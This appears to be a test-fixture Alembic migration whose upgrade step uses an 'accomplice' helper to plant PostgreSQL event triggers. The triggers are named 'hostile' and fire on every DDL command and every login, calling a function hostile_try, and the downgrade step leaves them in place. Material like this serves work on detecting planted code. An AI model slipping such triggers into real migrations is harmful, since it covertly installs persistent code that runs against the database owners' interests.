"""See submission.toml."""

from app import accomplice

revision = "0003"
down_revision = "0002"
branch_labels = None
depends_on = None


def upgrade() -> None:
    accomplice.plant(
        "a planted event trigger",
        """CREATE FUNCTION hostile_ddl() RETURNS event_trigger LANGUAGE plpgsql AS
        'BEGIN PERFORM public.hostile_try(TG_EVENT); END'""",
        "CREATE EVENT TRIGGER hostile_ddl ON ddl_command_end EXECUTE FUNCTION hostile_ddl()",
        "CREATE EVENT TRIGGER hostile_login ON login EXECUTE FUNCTION hostile_ddl()",
    )


def downgrade() -> None:
    pass
